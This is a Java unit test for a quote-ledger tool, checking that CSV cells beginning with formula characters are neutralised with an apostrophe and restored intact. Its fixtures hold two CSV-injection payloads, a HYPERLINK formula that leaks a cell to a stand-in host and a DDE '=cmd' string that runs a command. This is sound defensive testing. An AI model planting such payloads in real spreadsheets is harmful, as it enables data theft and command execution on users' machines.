package org.quotetrace.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.quotetrace.ledger.CsvCells;

/** No ledger cell may start a spreadsheet formula, whatever the article or manifest says. */
class CsvInjectionTest {

    @TempDir
    Path dir;

    @Test
    void everyOwaspTriggerGetsAnApostropheAndComesBack() {
        for (String cell : List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")) {
            assertThat(CsvCells.neutralise(cell)).isEqualTo("'" + cell);
            assertThat(CsvCells.restore(CsvCells.neutralise(cell))).isEqualTo(cell);
        }
        for (String cell : List.of("", "plain", "'quoted", "a=b", " =x", "12")) {
            assertThat(CsvCells.neutralise(cell)).isEqualTo(cell);
            assertThat(CsvCells.restore(cell)).isEqualTo(cell);
        }
    }

    @Test
    void aLedgerBuiltFromAHyperlinkQuoteHasNoFormulaCell() throws IOException {
        Path corpus = Files.createDirectories(dir.resolve("corpus"));
        Files.writeString(corpus.resolve("hostile.txt"),
                "Council row over leaflet\n\n"
                        + "“=HYPERLINK(http://example.invalid/steal?d=A1, Click for the full statement) is what "
                        + "the leaflet said,” said Mara Quell, the harbour master.\n\n"
                        + "“-1 is the margin we have left,” said Mara Quell.\n",
                StandardCharsets.UTF_8);
        Files.writeString(corpus.resolve("manifest.csv"),
                "file,outlet,url,published,role\nhostile.txt,\"=cmd|' /C calc'!A0\",@evil,+2024,article\n",
                StandardCharsets.UTF_8);

        Cli cli = Cli.run("build", "--quiet", "--threads", "1", "--corpus", corpus.toString(), "--out", dir.resolve("out").toString());
        assertThat(cli.exit()).as(cli.err()).isZero();

        String csv = Files.readString(dir.resolve("out/ledger.csv"), StandardCharsets.UTF_8);
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(csv)).getRecords();
        assertThat(records).isNotEmpty();
        for (CSVRecord record : records) {
            for (String cell : record.values()) {
                assertThat(cell.isEmpty() || CsvCells.FORMULA_STARTS.indexOf(cell.charAt(0)) < 0)
                        .as("cell %s", cell).isTrue();
            }
            assertThat(record.get("outlet")).isEqualTo("'=cmd|' /C calc'!A0");
        }
        List<String> texts = records.stream().map(r -> r.get("text")).toList();
        assertThat(texts).anySatisfy(t -> assertThat(t).startsWith("'=HYPERLINK("));
        assertThat(texts).anySatisfy(t -> assertThat(t).startsWith("'-1 is the margin"));
        // the offsets still point at the exact words, apostrophe not included
        String article = Files.readString(corpus.resolve("hostile.txt"), StandardCharsets.UTF_8);
        for (CSVRecord record : records) {
            String slice = article.substring(Integer.parseInt(record.get("char_start")), Integer.parseInt(record.get("char_end")));
            assertThat(CsvCells.restore(record.get("text"))).isEqualTo(slice);
        }
        // every cell is quoted, as OWASP advises
        assertThat(csv.lines().skip(1).findFirst().orElseThrow()).startsWith("\"");
    }
}
